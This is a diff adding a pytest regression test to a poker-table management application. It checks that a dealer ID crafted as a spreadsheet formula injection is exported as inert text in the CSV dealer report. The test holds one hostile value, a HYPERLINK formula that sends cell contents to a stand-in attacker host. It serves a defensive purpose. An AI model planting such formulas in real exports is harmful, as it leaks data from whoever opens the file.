@@ -152,3 +152,23 @@ def test_r_aud_1_every_hand_and_irregularity_of_the_period_is_one_dealer_s(
 
 def test_the_report_s_module_examples_hold() -> None:
     assert doctest.testmod(report_dealers).failed == 0
+
+
+def test_a_dealer_id_never_runs_as_a_formula_in_the_csv(db: tuple[str, PokerTables],
+                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    """Attack (issue 34, "also found"): a croupier signs in as ``=HYPERLINK(…)``; ``report dealers --format csv``
+    writes it as text (a leading apostrophe), never as a formula a spreadsheet would run."""
+    url, app = db
+    before = datetime.now(UTC)
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    with serving(app, STATIONS) as bound:
+        pit, croupier = Client(bound, TOKENS["pit"]), Client(bound, TOKENS["dealer"])
+        open_circle(pit, "Mesa 1")
+        seat(croupier, "Mesa 1", 1), seat(croupier, "Mesa 1", 2)
+        croupier.SignIn(svc.SignInRequest(command_id=croupier.next_id(), table="Mesa 1", dealer_id=evil))
+        start(croupier, "Mesa 1", pb.DECK_COLOUR_RED)
+    after = datetime.now(UTC) + timedelta(seconds=1)
+    assert main(["report", "dealers", "--from", before.isoformat(), "--to", after.isoformat(), "--db", url,
+                 "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [(r["dealer"], r["hands"]) for r in rows] == [("'" + evil, "1")]
